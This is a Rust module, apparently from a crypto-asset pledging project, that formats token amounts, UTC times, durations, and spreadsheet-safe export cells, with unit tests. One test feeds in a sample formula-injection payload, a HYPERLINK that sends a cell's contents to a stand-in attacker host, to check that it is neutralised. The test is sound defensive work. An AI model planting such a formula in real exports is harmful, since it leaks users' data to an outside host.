//! How figures read: amounts with their asset's symbol and decimals, times
//! as UTC dates, durations in words.

use std::collections::HashMap;

use pledgeroll_contracts::asset::declared_unit;
use pledgeroll_contracts::{units, FINE_PER_UNIT};

use super::store::AssetRow;

/// How one asset is written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unit {
    /// Its symbol, e.g. `tez`, or `asset#N` when unknown.
    pub symbol: String,
    /// Decimal places of one unit.
    pub decimals: u32,
}

/// The symbols and decimals of the assets the mirror knows.
#[derive(Debug, Clone, Default)]
pub struct Assets(HashMap<i64, Unit>);

impl Assets {
    /// The units of `rows`: each as its ticket declares it (metadata
    /// `SYMBOL:DECIMALS`, the name statements and the wallet use), any other
    /// as `asset#N` with no decimals.
    pub fn new(rows: &[AssetRow]) -> Self {
        Assets(
            rows.iter()
                .map(|a| {
                    let metadata = a.metadata.as_deref().and_then(|m| hex::decode(m).ok());
                    let unit = metadata.as_deref().and_then(declared_unit).map_or_else(
                        || unknown(a.asset_id),
                        |(symbol, decimals)| Unit {
                            symbol: symbol.to_owned(),
                            decimals: u32::from(decimals),
                        },
                    );
                    (a.asset_id, unit)
                })
                .collect(),
        )
    }

    /// How `asset` is written.
    pub fn unit(&self, asset: i64) -> Unit {
        self.0
            .get(&asset)
            .cloned()
            .unwrap_or_else(|| unknown(asset))
    }

    /// Every asset's symbol, by asset number.
    pub fn symbols(&self) -> Vec<String> {
        let mut ids: Vec<i64> = self.0.keys().copied().collect();
        ids.sort_unstable();
        ids.into_iter().map(|id| self.symbol(id)).collect()
    }

    /// The symbol of `asset`.
    pub fn symbol(&self, asset: i64) -> String {
        self.unit(asset).symbol
    }

    /// `units` base units of `asset`, e.g. `5.25 tez`.
    pub fn amount(&self, asset: i64, units: u128) -> String {
        let unit = self.unit(asset);
        format!("{} {}", decimal(units, unit.decimals), unit.symbol)
    }

    /// An amount given as decimal text of base units.
    pub fn amount_text(&self, asset: i64, units: &str) -> String {
        self.amount(asset, units.parse().unwrap_or(0))
    }

    /// An amount given in fine units.
    pub fn amount_fine(&self, asset: i64, fine: u128) -> String {
        self.amount(asset, fine / FINE_PER_UNIT)
    }

    /// An amount given as signed base units (negatives read as zero).
    pub fn amount_i64(&self, asset: i64, units: i64) -> String {
        self.amount(asset, u128::try_from(units).unwrap_or(0))
    }
}

fn unknown(asset: i64) -> Unit {
    Unit {
        symbol: format!("asset#{asset}"),
        decimals: 0,
    }
}

/// `units` with `decimals` places, trailing zeros dropped: `5250000`, 6
/// → `5.25` (the protocol's one amount formatter).
pub fn decimal(units: u128, decimals: u32) -> String {
    units::format_decimal(units, u8::try_from(decimals).unwrap_or(u8::MAX))
}

/// Unix seconds as `YYYY-MM-DD HH:MM UTC`.
pub fn time(unix: i64) -> String {
    units::format_time(unix)
}

/// Unix seconds as an RFC 3339 (ISO 8601) UTC instant,
/// `2027-03-01T12:00:00Z`.
pub fn instant(unix: i64) -> String {
    units::format_rfc3339(unix)
}

/// A cell a spreadsheet cannot take for a formula: one starting with `=`,
/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
pub fn spreadsheet_safe(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

/// Days since 1970-01-01 as `YYYY-MM-DD`.
pub fn date(day: i64) -> String {
    units::format_date(day)
}

/// A duration in words (`3 days 4 hours`); negative ones read as zero.
pub fn span(seconds: i64) -> String {
    units::format_duration(u64::try_from(seconds).unwrap_or(0))
}

/// A period in words: `month` for 30 days, `week`, `day`, or a duration.
pub fn period(seconds: i64) -> String {
    units::format_period(u64::try_from(seconds).unwrap_or(0))
}

/// The strings of a JSON array column (empty if it is not one).
pub fn json_list(text: &str) -> Vec<String> {
    serde_json::from_str(text).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decimals_drop_trailing_zeros() {
        assert_eq!(decimal(5_250_000, 6), "5.25");
        assert_eq!(decimal(5_000_000, 6), "5");
        assert_eq!(decimal(1, 6), "0.000001");
        assert_eq!(decimal(42, 0), "42");
    }

    #[test]
    fn unknown_assets_have_no_decimals() {
        let assets = Assets::default();
        assert_eq!(assets.amount(7, 1_500), "1500 asset#7");
    }

    #[test]
    fn times_are_utc_dates() {
        assert_eq!(time(0), "1970-01-01 00:00 UTC");
        assert_eq!(time(1_700_000_000), "2023-11-14 22:13 UTC");
        assert_eq!(date(19_675), "2023-11-14");
        assert_eq!(instant(1_700_000_000), "2023-11-14T22:13:20Z");
    }

    #[test]
    fn formulas_reach_a_spreadsheet_as_text() {
        for formula in [
            r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#,
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        assert_eq!(spreadsheet_safe("for the notes"), "for the notes");
        assert_eq!(spreadsheet_safe("1000000"), "1000000");
    }
}
